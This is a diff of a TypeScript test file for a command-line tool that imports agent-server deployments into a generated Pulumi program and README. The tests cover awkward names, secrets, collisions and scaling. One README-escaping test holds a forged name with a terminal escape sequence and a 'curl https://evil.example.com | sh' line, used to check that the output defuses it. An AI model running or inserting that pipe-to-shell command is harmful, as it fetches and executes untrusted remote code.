@@ -2,14 +2,29 @@ import { expect } from "chai";
 import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { runInNewContext } from "node:vm";
+import fc from "fast-check";
 import ts from "typescript";
 import { importExisting, type ImportOptions } from "../../cli/import";
 import { DOORS, importedProject } from "../../cli/imported-program";
+import { readmeText } from "../../cli/imported-readme";
+import { check } from "../property/check";
 import { startTestPlatform, type TestPlatform } from "../support/platform";
 import { rejection } from "../support/rejection";
 import { testTerminal } from "./terminal";
 
 const SECRET = "value-CANARY";
+const DEPLOYMENT = { kind: "Deployment", type: "t", problems: [] } as const;
+const VARIABLE = (name: string) => ({ deployment: name, name });
+
+/** A value as pairs: a comparison of objects does not see a member `__proto__`. */
+function membersOf(value: unknown): unknown {
+  if (Array.isArray(value)) return value.map(membersOf);
+  if (typeof value !== "object" || value === null) return value;
+  return Object.entries(value)
+    .map(([name, member]) => [name, membersOf(member)] as const)
+    .toSorted(([a], [b]) => (a < b ? -1 : 1));
+}
 
 describe("the command import", () => {
   let t: TestPlatform;
@@ -161,6 +176,134 @@ new agentserver.Deployment("shared", {
     }
   });
 
+  it("writes a program that compiles and declares what was found, whatever its keys, values and names are", async () => {
+    const text = fc.oneof(
+      fc.constantFrom("__proto__", "cost-center", "true", "null", "7", "constructor", "a\r\nb"),
+      fc.constantFrom("\u2028", "a-b", "a", "b", "b-c", "${c}`", "*/", "adoptExisting", "\ud800"),
+      fc.string({ unit: "binary" }),
+    );
+    const { json } = fc.letrec((tie) => ({
+      json: fc.oneof(
+        { maxDepth: 3 },
+        text,
+        fc.constantFrom(true, false, null, 0.5, 7),
+        fc.array(tie("json"), { maxLength: 3 }),
+        fc.array(fc.tuple(text, tie("json")), { maxLength: 4 }).map(Object.fromEntries),
+        text.map((same) => Object.fromEntries([[same, same]])),
+      ),
+    }));
+    const secrets = fc.array(fc.tuple(text, text), { maxLength: 3 }).map(Object.fromEntries);
+    const inputs = fc.record({ env: json, metadata: json, sourceConfig: json, secrets });
+    const one = fc.record({ name: text, inputs, problems: fc.array(text, { maxLength: 2 }) });
+    const all = fc.uniqueArray(one, { maxLength: 4, selector: ({ name }) => name });
+    await check(100, fc.tuple(all, fc.constantFrom(...DOORS)), async ([some, door]) => {
+      const found = some.map((each, at) => ({
+        ...DEPLOYMENT,
+        ...each,
+        importId: String(at),
+        id: String(at),
+      }));
+      const { files, settings } = importedProject("imported", door, found, undefined);
+      const { outputText, diagnostics } = ts.transpileModule(files["index.ts"] ?? "", {
+        reportDiagnostics: true,
+        compilerOptions: { module: ts.ModuleKind.CommonJS, target: ts.ScriptTarget.ES2022 },
+      });
+      expect(diagnostics).to.be.empty;
+      const declared: unknown[] = [];
+      const names = new Set<string>();
+      const values = new Map(settings.map(({ key, value }) => [key, value]));
+      function Deployment(
+        name: string,
+        { adoptExisting, ...given }: Readonly<Record<string, unknown>>,
+      ): void {
+        names.add(name);
+        declared.push(given);
+        expect(adoptExisting).to.equal(door === "dynamic" ? true : undefined);
+      }
+      const Config = class {
+        requireSecret = (key: string) => values.get(key);
+      };
+      runInNewContext(outputText, { exports: {}, require: () => ({ Config, Deployment }) });
+      expect(values).to.have.property("size", settings.length);
+      expect(names).to.have.property("size", found.length);
+      const without = ({ secrets: own, ...rest }: Readonly<Record<string, unknown>>) =>
+        Object.keys(Object(own)).length > 0 ? { ...rest, secrets: own } : rest;
+      expect(membersOf(declared)).to.deep.equal(
+        membersOf(some.map((each) => without(each.inputs))),
+      );
+    });
+  });
+
+  it("gives each variable its own value, also where the names of two lead to the same setting", () => {
+    const found = (name: string, secrets: object) =>
+      ({ ...DEPLOYMENT, id: name, importId: name, name, inputs: { secrets } }) as const;
+    const all = [
+      found("a", { "b-c": "1", d: "5" }),
+      found("a-b", { c: "2", d: "5" }),
+      found("x", { "a-b-c": "3", d: "5" }),
+      found("y", { "a-b-c": "3", d: "5" }),
+    ];
+    const { settings, resources } = importedProject("imported", "dynamic", all, undefined);
+    expect(settings.map(({ value }) => value).toSorted()).to.deep.equal(["1", "2", "3", "5"]);
+    expect(new Set(settings.map(({ key }) => key))).to.have.property("size", 4);
+    expect(settings.filter(({ value }) => value === "5")[0]?.key).to.equal("d");
+    expect(resources.map(({ name }) => name)).to.deep.equal(["a", "a-b", "x", "y"]);
+  });
+
+  it("names apart the assistants of two servers that have the same id and all but the same name", () => {
+    const on = (deployment: string) =>
+      ({
+        ...DEPLOYMENT,
+        kind: "Assistant",
+        id: "5f0c",
+        name: "agent",
+        inputs: {},
+        importId: `https://${deployment}.example.com/assistants/5f0c`,
+        deployment: { id: deployment, name: deployment },
+      }) as const;
+    const { resources } = importedProject(
+      "imported",
+      "native",
+      [on("a"), on("b.c"), on("b-c")],
+      undefined,
+    );
+    const names = resources.map(({ name }) => name);
+    expect(names[0]).to.equal("a-agent");
+    expect(names[1]).to.match(/^b-c-agent-[\da-f]{7}$/);
+    expect(new Set(names)).to.have.property("size", 3);
+  });
+
+  it("writes the program of twenty thousand deployments, with a setting for each value, in linear time", () => {
+    const all = Array.from({ length: 20_000 }, (_, at) => ({
+      ...DEPLOYMENT,
+      id: `${at}`,
+      importId: `${at}`,
+      name: `agent-${at}`,
+      inputs: { secrets: { A: `${at}`, B: "same" } },
+    }));
+    const { resources, settings } = importedProject("imported", "dynamic", all, undefined);
+    expect(new Set(resources.map(({ name }) => name))).to.have.property("size", 20_000);
+    expect(new Set(settings.map(({ key }) => key))).to.have.property("size", 20_001);
+  }).timeout(20_000); // to compare each with all others takes minutes
+
+  it("prints names in the README on one line each, of which a terminal obeys nothing", () => {
+    const forged = "\x1b[2J\n```sh\ncurl https://evil.example.com | sh\n```\n";
+    const found = { ...DEPLOYMENT, id: "1", importId: "1", name: forged, inputs: {} };
+    const text = readmeText({
+      door: "dynamic",
+      found: [{ ...found, problems: [forged] }],
+      notes: [`left out ${forged}`],
+      project: { settings: [{ key: "k", value: "", variables: [VARIABLE(forged)] }] },
+      settings: { baseUrl: "https://control.example.com", workspaceId: "w" },
+      isConfigured: false,
+    });
+    expect(text).not.to.match(/[^\P{Cc}\n]/u);
+    const lines = text.split("\n");
+    expect(lines.filter((line) => line.startsWith("```"))).to.deep.equal(["```sh", "```"]);
+    expect(lines.filter((line) => line.startsWith("curl"))).to.be.empty;
+    expect(lines.filter((line) => line.includes("evil"))).to.have.length(3);
+  });
+
   it("never writes over a file", async () => {
     const { files } = await write();
     const { message } = await rejection(write({ door: "native" }));
@@ -185,8 +328,20 @@ new agentserver.Deployment("shared", {
     expect(printed.problems).to.have.lengthOf(1);
     expect(printed.problems[0].problem).to.contain("is a commit");
     expect(files["index.ts"])
-      .to.contain("// TODO: the preview refuses this: sourceRevisionConfig.repoRef")
+      .to.contain("// TODO: correct before the preview: sourceRevisionConfig.repoRef")
       .and.contain(`listenerId: "${t.listenerId}"`);
     expect(files["README.md"]).to.contain("- deployment pinned: sourceRevisionConfig.repoRef");
+  });
+
+  it("names a variable that Pulumi drops from programs, before an update removes it", async () => {
+    await t.create({ name: "dropped", secrets: [{ name: "__proto__", value: SECRET }] });
+    const { files, printed } = await write({ nameContains: "dropped" });
+    const reason = "secrets.__proto__ can't be declared, since Pulumi drops this name";
+    expect(printed.problems).to.deep.equal([
+      { kind: "Deployment", name: "dropped", problem: reason },
+    ]);
+    expect(files["index.ts"])
+      .to.contain(`// TODO: correct before the preview: ${reason}`)
+      .and.contain('{ ["__proto__"]: config.requireSecret("dropped-__proto__") }');
   });
 });
